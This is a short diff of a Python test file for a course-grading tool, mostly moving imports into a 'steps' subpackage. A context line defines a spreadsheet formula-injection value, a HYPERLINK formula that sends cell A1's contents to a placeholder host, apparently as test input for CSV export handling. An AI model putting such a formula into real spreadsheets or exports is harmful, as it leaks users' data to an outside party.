@@ -7,9 +7,10 @@ import re
 from pathlib import Path
 
 import resumable_core
-from resumable_core.course.grading import csvfile, report
-from resumable_core.course.grading.collect import collect
-from resumable_core.course.grading.lms import Names, write_imports
+from resumable_core.course.grading import csvfile
+from resumable_core.course.grading.steps import report
+from resumable_core.course.grading.steps.collect import collect
+from resumable_core.course.grading.steps.lms import Names, write_imports
 
 NB = b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
 FORMULA = '=HYPERLINK("http:x.example?"&A1,"click")'
